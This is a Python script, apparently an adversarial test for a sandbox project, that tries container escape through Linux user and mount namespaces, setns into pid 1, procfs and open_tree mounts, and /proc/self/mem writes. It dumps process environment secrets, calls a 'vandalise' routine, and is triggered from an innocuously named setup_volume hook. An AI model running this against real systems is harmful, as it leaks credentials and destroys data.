"""Attack: take the sandbox apart with namespaces. A new user namespace with every uid mapped, a
fresh procfs to see the host's processes, open_tree/move_mount of the host's root, taking the
covers off, setns into pid 1's namespaces, writing over its own memory through /proc/self/mem;
then print whatever secret became readable."""

import ctypes
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack_kit  # noqa: E402

from mountlab import syscalls  # noqa: E402

LIBC = ctypes.CDLL(None, use_errno=True)
OPEN_TREE, MOVE_MOUNT = 428, 429
OPEN_TREE_CLONE, AT_RECURSIVE, MOVE_MOUNT_F_EMPTY_PATH = 1, 0x8000, 4
LOG = []


def _open_tree(path: str, where: str) -> None:
    fd = LIBC.syscall(OPEN_TREE, -100, path.encode(), OPEN_TREE_CLONE | AT_RECURSIVE)
    LOG.append(("open_tree", path, fd, ctypes.get_errno()))
    if fd >= 0:
        os.makedirs(where, exist_ok=True)
        LOG.append(("move_mount", LIBC.syscall(MOVE_MOUNT, fd, b"", -100, where.encode(),
                                               MOVE_MOUNT_F_EMPTY_PATH), ctypes.get_errno()))


def tricks(scratch: str) -> None:
    for what in ("user", "user+mnt"):
        flags = syscalls.CLONE_NEWUSER | (syscalls.CLONE_NEWNS if "mnt" in what else 0)
        if os.fork() == 0:
            LOG.append(attack_kit.attempt(syscalls.unshare, flags))
            for name, text in (("setgroups", "deny"), ("uid_map", "0 0 4294967295"),
                               ("uid_map", "0 65534 1"), ("uid_map", "0 0 1"),
                               ("gid_map", "0 0 1")):
                attack_kit.write(f"/proc/self/{name}", text)
            print(attack_kit.loot()[-20000:])
            os._exit(0)
        os.wait()
    for ns in ("mnt", "pid", "user", "net"):
        fd = attack_kit.attempt(os.open, f"/proc/1/ns/{ns}", os.O_RDONLY)
        if isinstance(fd, int):
            LOG.append(attack_kit.attempt(syscalls.setns, fd, 0))
    proc = os.path.join(scratch, "proc")
    os.makedirs(proc, exist_ok=True)
    LOG.append(attack_kit.attempt(syscalls.mount, "proc", proc, "proc", 0))
    for name in os.listdir(proc) if os.path.isdir(proc) else []:
        if name.isdigit():
            print(attack_kit.read(os.path.join(proc, name, "environ")))
            print(attack_kit.read(os.path.join(proc, name, "root", "proc", "1", "environ")))
    _open_tree("/", os.path.join(scratch, "root"))
    _open_tree("/proc/1/root", os.path.join(scratch, "root1"))
    for top in ("/tmp", attack_kit.TARGETS.get("kit", "/")):
        for _ in range(3):
            LOG.append(attack_kit.attempt(syscalls.umount2, top, syscalls.MNT_DETACH))
    def overwrite_own_memory():
        with open("/proc/self/mem", "r+b", buffering=0) as mem:
            mem.seek(id(LOG))
            data = mem.read(16)
            mem.seek(id(LOG))
            return mem.write(data)
    LOG.append(attack_kit.attempt(overwrite_own_memory))
    LOG.append(attack_kit.vandalise())
    print(attack_kit.loot())
    print(LOG)


def setup_volume(volume_path, container_path):
    tricks(os.path.dirname(os.path.abspath(volume_path)))
